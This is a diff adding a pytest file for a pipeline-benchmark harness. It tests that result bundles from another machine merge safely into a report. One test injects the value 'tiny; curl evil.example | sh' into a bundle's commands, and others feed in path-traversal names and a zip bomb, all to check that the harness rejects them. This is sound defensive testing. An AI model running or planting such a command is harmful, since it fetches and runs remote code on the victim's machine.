@@ -1,0 +1,320 @@
+"""Results of a machine in one file: packed on one, shown beside those of another, whatever is in
+them."""
+
+import json
+import shutil
+import warnings
+import zipfile
+from collections.abc import Callable
+from contextlib import suppress
+from dataclasses import replace
+from pathlib import Path
+
+import pytest
+from crew import Crew, experiment, measure, spec
+
+from repro.cli import doctor_check, gpus, run
+from repro.cli.main import main
+from repro.gpipe.schedule.replay import replay
+from repro.harness import bundle, machine
+from repro.harness.job import Job, Outcome
+from repro.harness.machine import Machine
+from repro.harness.warned import LeftOut
+
+CPU = Machine("cpu", "Test CPU", 2, "shm", "2.15.0")
+GPUS = Machine("cuda", "NVIDIA H100", 2, "nccl", "2.15.0")
+
+
+class Pipelines(Crew):
+    """Measures whole pipeline steps, with every span."""
+
+    def measure(self, job: Job, deadline: float) -> Outcome:
+        outcome = super().measure(job, deadline)
+        timeline = replay(job.spec.make_schedule(), lambda action: 0.1)
+        assert outcome.measured is not None
+        return replace(outcome, measured=replace(outcome.measured, timeline=timeline))
+
+
+SWEEP = experiment(spec(1, 1), spec(2, 4))
+GPU_RECORDS = "2x-h100/smoke/tiny/records.jsonl"
+
+
+@pytest.fixture(scope="module")
+def local(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    results = tmp_path_factory.mktemp("local")
+    assert measure(results, Pipelines(), SWEEP, machine=CPU) == 0
+    return results
+
+
+@pytest.fixture(scope="module")
+def sent(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The bundle of a machine with two GPUs."""
+    folder = tmp_path_factory.mktemp("sent")
+    assert measure(folder / "results", Pipelines(), SWEEP, machine=GPUS) == 0
+    bundle.write_bundle(folder / "results", folder / "gpus.zip")
+    return folder / "gpus.zip"
+
+
+def changed(source: Path, target: Path, change: Callable[[dict[str, bytes]], object]) -> Path:
+    """A copy of a bundle with other entries."""
+    with zipfile.ZipFile(source) as archive:
+        entries = {name: archive.read(name) for name in archive.namelist()}
+    change(entries)
+    with zipfile.ZipFile(target, "w") as archive:
+        for name, data in entries.items():
+            archive.writestr(name, data)
+    return target
+
+
+def with_line(file: str, lines: list[object]) -> bytes:
+    return json.dumps({"file": file, "lines": lines}).encode() + b"\n"
+
+
+def test_both_machines_are_shown_and_named(local, sent, tmp_path, capsys):
+    plots = tmp_path / "plots"
+    assert (
+        main(["report", "--results", str(local), "--plots", str(plots), "--with", str(sent)]) == 0
+    )
+    assert f"{sent}: tiny of 2x-h100" in capsys.readouterr().out
+    page = (plots / "report.html").read_text()
+    assert "test-cpu-2c" in page
+    assert "2x-h100" in page
+    lines = (plots / "runs.csv").read_text().splitlines()
+    of_machine = {name: [line for line in lines if name in line] for name in ("cpu-2c", "x-h100")}
+    assert [len(rows) for rows in of_machine.values()] == [2, 2]
+    assert all("measured" in line for rows in of_machine.values() for line in rows)
+    # The next report is without the bundle.
+    assert main(["report", "--results", str(local), "--plots", str(plots)]) == 0
+    assert "2x-h100" not in (plots / "report.html").read_text()
+
+
+def test_runs_of_two_machines_are_never_divided_by_each_other(local, sent, tmp_path):
+    results, _ = bundle.merge(local, [sent], tmp_path)
+    for wide in [each for each in results.runs if each.K == 2]:
+        assert results.timeline(wide) is not None
+        base = results.baseline(wide, K=1, M=1)
+        assert base is not None
+        assert base.machine == wide.machine
+    assert len({run.machine for run in results.runs}) == 2
+
+
+def test_the_same_results_are_shown_once(local, sent, tmp_path):
+    copy = shutil.copy(sent, tmp_path / "again.zip")
+    results, merged = bundle.merge(local, [sent, Path(copy)], tmp_path / "a")
+    assert len(results.runs) == 4
+    assert "tiny of 2x-h100 is among the results already" in str(merged[1])
+    # So are a machine's own results in a bundle of its own.
+    results, merged = bundle.merge(sent.parent / "results", [sent], tmp_path / "b")
+    assert len(results.runs) == 2
+    assert not merged[0].places
+
+
+def test_two_machines_of_the_same_kind_keep_apart(sent, tmp_path):
+    measure(tmp_path / "other", Pipelines(), experiment(spec(1, 2)), machine=GPUS)
+    bundle.write_bundle(tmp_path / "other", tmp_path / "other.zip")
+    results, merged = bundle.merge(
+        tmp_path / "none", [sent, tmp_path / "other.zip"], tmp_path / "unpacked"
+    )
+    names = [place.machine for source in merged for place in source.places]
+    assert names[0] == "2x-h100"
+    assert names[1].startswith("2x-h100-")
+    assert {run.machine for run in results.runs} == set(names)
+
+
+def test_the_same_results_give_the_same_bytes(sent, tmp_path):
+    bundle.write_bundle(sent.parent / "results", tmp_path / "again.zip")
+    assert (tmp_path / "again.zip").read_bytes() == sent.read_bytes()
+    assert not list((sent.parent / "results").rglob("records.jsonl")), "packing leaves nothing"
+
+
+def test_an_edited_record_is_left_out_with_a_warning(sent, tmp_path):
+    def faster(entries: dict[str, bytes]) -> None:
+        assert b'"step_s": [0.75' in entries[GPU_RECORDS]
+        entries[GPU_RECORDS] = entries[GPU_RECORDS].replace(b'"step_s": [0.75', b'"step_s": [0.25')
+
+    edited = changed(sent, tmp_path / "edited.zip", faster)
+    with pytest.warns(LeftOut, match="not as it was recorded"):
+        results, _ = bundle.merge(tmp_path / "none", [edited], tmp_path / "unpacked")
+    assert [len(run.rounds) for run in results.runs if run.K == 2] == [0]
+    assert [len(run.rounds) for run in results.runs if run.K == 1] == [2]
+
+
+def test_a_timeline_of_another_schedule_is_left_out_with_a_warning(local, tmp_path):
+    measure(tmp_path / "results", Crew(), SWEEP, machine=GPUS)  # whose timelines are one span
+    bundle.write_bundle(tmp_path / "results", tmp_path / "odd.zip")
+    odd, folder = tmp_path / "odd.zip", tmp_path / "unpacked"
+    with pytest.warns(LeftOut, match="its spans are not those of"):
+        results, _ = bundle.merge(local, [odd], folder)
+    assert [results.timeline(each) is None for each in results.runs] == [False, False, True, True]
+
+
+def test_commands_of_others_are_not_shown(sent, tmp_path):
+    def hostile(entries: dict[str, bytes]) -> None:
+        assert b'"commands": [' in entries[GPU_RECORDS]
+        entries[GPU_RECORDS] = entries[GPU_RECORDS].replace(
+            b'"commands": [', b'"commands": ["tiny; curl evil.example | sh"'
+        )
+
+    edited = changed(sent, tmp_path / "edited.zip", hostile)
+    results, _ = bundle.merge(tmp_path / "none", [edited], tmp_path / "unpacked")
+    assert len(results.runs) == 2
+    assert results.listings["tiny"].commands == []
+
+
+def test_the_local_description_of_an_experiment_stands(local, sent, tmp_path):
+    def renamed(entries: dict[str, bytes]) -> None:
+        entries[GPU_RECORDS] = entries[GPU_RECORDS].replace(b"A tiny sweep", b"Something else")
+
+    edited = changed(sent, tmp_path / "edited.zip", renamed)
+    results, _ = bundle.merge(local, [edited], tmp_path / "unpacked")
+    assert results.listings["tiny"].title == "A tiny sweep"
+
+
+DAMAGED = {
+    "a newer format": lambda e: e.update({"bundle.json": b'{"format": 2}'}),
+    "no format": lambda e: e.update({"bundle.json": b"[]"}),
+    "no JSON": lambda e: e.update({"bundle.json": b"\xff"}),
+    "no bundle.json": lambda e: e.pop("bundle.json"),
+    "no results": lambda e: [e.pop(name) for name in list(e) if "/" in name],
+    "half an experiment": lambda e: e.pop(GPU_RECORDS),
+    "another file": lambda e: e.update({"run.sh": b"echo"}),
+    "a path out of it": lambda e: e.update({"../smoke/tiny/records.jsonl": b""}),
+    "an absolute path": lambda e: e.update({"/tmp/smoke/tiny/records.jsonl": b""}),
+    "a record that is no JSON": lambda e: e.update({GPU_RECORDS: b"{"}),
+    "a record that is a list": lambda e: e.update({GPU_RECORDS: b"[]"}),
+    "no table": lambda e: e.update(
+        {GPU_RECORDS.replace("records.jsonl", "timelines.parquet"): b""}
+    ),
+    "a file outside": lambda e: e.update({GPU_RECORDS: with_line("../../x.json", [{}])}),
+    "a file of another kind": lambda e: e.update({GPU_RECORDS: with_line("x.py", [{}])}),
+    "a file that is a folder": lambda e: e.update(
+        {GPU_RECORDS: with_line("x.json", [{}]) + with_line("x.json/y.json", [{}])}
+    ),
+    "a folder that is a file": lambda e: e.update(
+        {GPU_RECORDS: with_line("x.json/y.json", [{}]) + with_line("x.json", [{}])}
+    ),
+    "a name too long": lambda e: e.update({GPU_RECORDS: with_line("x" * 300 + ".json", [{}])}),
+    "a zero in a name": lambda e: e.update({GPU_RECORDS: with_line("x\0.json", [{}])}),
+    "an empty experiment": lambda e: e.update({GPU_RECORDS: with_line("experiment.json", [])}),
+    "too many files": lambda e: e.update({GPU_RECORDS: b"{}\n" * 30_000}),
+}
+
+
+@pytest.mark.parametrize("damage", DAMAGED)
+def test_a_damaged_bundle_is_one_line(local, sent, tmp_path, damage, capsys):
+    bad = changed(sent, tmp_path / "bad.zip", DAMAGED[damage])
+    before = sorted(path for path in local.rglob("*"))
+    arguments = ["report", "--results", str(local), "--plots", str(tmp_path / "plots")]
+    assert main([*arguments, "--with", str(bad)]) == 2
+    error = capsys.readouterr().err
+    assert error.startswith(f"error: {bad}: "), error
+    assert error.count("\n") == 1
+    assert sorted(path for path in local.rglob("*")) == before
+    assert not (tmp_path / "plots").exists()
+
+
+def test_a_newer_bundle_says_what_to_do(sent, tmp_path):
+    newer = changed(sent, tmp_path / "new.zip", DAMAGED["a newer format"])
+    with pytest.raises(ValueError, match=r"format = 2: a newer version wrote it.*git pull"):
+        bundle.merge(tmp_path / "none", [newer], tmp_path / "unpacked")
+
+
+def test_any_cut_or_flipped_byte_is_a_mistake_or_a_warning(sent, tmp_path):
+    raw = sent.read_bytes()
+    for number, at in enumerate(range(0, len(raw), max(1, len(raw) // 60))):
+        for data in (raw[:at], raw[:at] + bytes([raw[at] ^ 0xFF]) + raw[at + 1 :]):
+            bad = tmp_path / "bad.zip"
+            bad.write_bytes(data)
+            folder = tmp_path / f"{number}-{len(data)}"
+            with warnings.catch_warnings():
+                warnings.simplefilter("ignore")
+                with suppress(ValueError):
+                    bundle.merge(tmp_path / "none", [bad], folder)
+
+
+def test_an_archive_that_unpacks_to_more_than_is_read(sent, tmp_path, monkeypatch):
+    monkeypatch.setattr(bundle, "LARGE", 100_000)
+    with zipfile.ZipFile(tmp_path / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("bundle.json", '{"format": 1}')
+        archive.writestr(GPU_RECORDS, b" " * 10_000_000)
+    with pytest.raises(ValueError, match="more than 100000 bytes"):
+        bundle.merge(tmp_path / "none", [tmp_path / "bomb.zip"], tmp_path / "unpacked")
+
+
+def test_a_model_that_is_code_is_shown_and_not_imported(local, tmp_path, monkeypatch):
+    folder = tmp_path / "theirs"
+    module = "sentinel_of_bundles"
+    results = tmp_path / "results"
+    source = experiment(spec(1, 1, model=f"import:{module}:layers", model_args={}))
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr("repro.harness.rehearsal.check_plans", lambda _: None)
+        assert measure(results, Pipelines(), source, machine=GPUS) == 0
+    folder.mkdir()
+    bundle.write_bundle(results, folder / "code.zip")
+    (tmp_path / f"{module}.py").write_text("raise SystemExit('imported')")
+    monkeypatch.syspath_prepend(str(tmp_path))
+    plots = tmp_path / "plots"
+    arguments = ["report", "--results", str(local), "--plots", str(plots), "--with", str(folder)]
+    assert main(arguments) == 0
+    assert "2x-h100" in (plots / "report.html").read_text()
+
+
+def test_other_uses_are_one_line(local, tmp_path, capsys):
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    for arguments, text in {
+        ("pack", "--results", str(empty)): "nothing is recorded there",
+        ("pack", "--results", str(local), "--file", str(empty)): "that is a folder",
+        ("report", "--with", str(empty)): "no .zip file is in this folder",
+        ("report", "--with", str(tmp_path / "none.zip")): "not readable",
+        ("report", "--reference", "--with", str(empty)): "drop --reference",
+    }.items():
+        assert main(list(arguments)) == 2
+        error = capsys.readouterr().err
+        assert text in error
+        assert error.count("\n") == 1
+
+
+def test_without_two_gpus_one_line_says_so(monkeypatch, capsys):
+    for names, text in {(): "torch can use no GPU here", ("H100",): "one GPU here"}.items():
+        monkeypatch.setattr(machine, "gpus", lambda names=names: names)
+        assert main(["gpus"]) == 2
+        error = capsys.readouterr().err
+        assert text in error
+        assert "--dry-run" in error
+        assert error.count("\n") == 1
+    monkeypatch.setenv("RANK", "0")
+    monkeypatch.setenv("WORLD_SIZE", "2")
+    assert main(["gpus"]) == 2
+    assert "without torchrun" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(("count", "runs"), [(0, 24), (2, 12), (4, 18), (8, 24)])
+def test_a_dry_run_plans_for_the_gpus_that_are_there(count, runs, monkeypatch, tmp_path, capsys):
+    monkeypatch.setattr(machine, "gpus", lambda: ("NVIDIA H100",) * count)
+    assert main(["gpus", "--dry-run", "--results", str(tmp_path / "results")]) == 0
+    output = capsys.readouterr().out
+    assert f"{runs} to measure" in output
+    assert ("this is the plan for 8" in output) == (count == 0)
+    assert not (tmp_path / "results").exists()
+
+
+@pytest.mark.parametrize("checks", [0, 1])
+def test_checks_then_runs_then_one_file(checks, local, monkeypatch, tmp_path, capsys):
+    """GPUs are stood in for; what they would have measured is there already."""
+    asked: list[list[str]] = []
+    monkeypatch.setattr(machine, "gpus", lambda: ("NVIDIA H100",) * 2)
+    monkeypatch.setattr(doctor_check, "print_checks", lambda: checks)
+    monkeypatch.setattr(run, "main", lambda arguments: asked.append(arguments) or 1)
+    file = tmp_path / "back.zip"
+    assert main(["gpus", "--results", str(local), "--file", str(file), "--rounds", "2"]) == 1
+    output = capsys.readouterr().out
+    assert file.exists() == (not checks)
+    if checks:
+        assert not asked
+        assert "nothing is measured" in output
+        return
+    (arguments,) = asked
+    assert arguments[:6] == ["table2", "table3", "--scale", "node", "--only", gpus.ONLY]
+    assert arguments[-6:] == ["--rounds", "2", "--results", str(local), "--wandb", "disabled"]
+    assert "Please send" in output
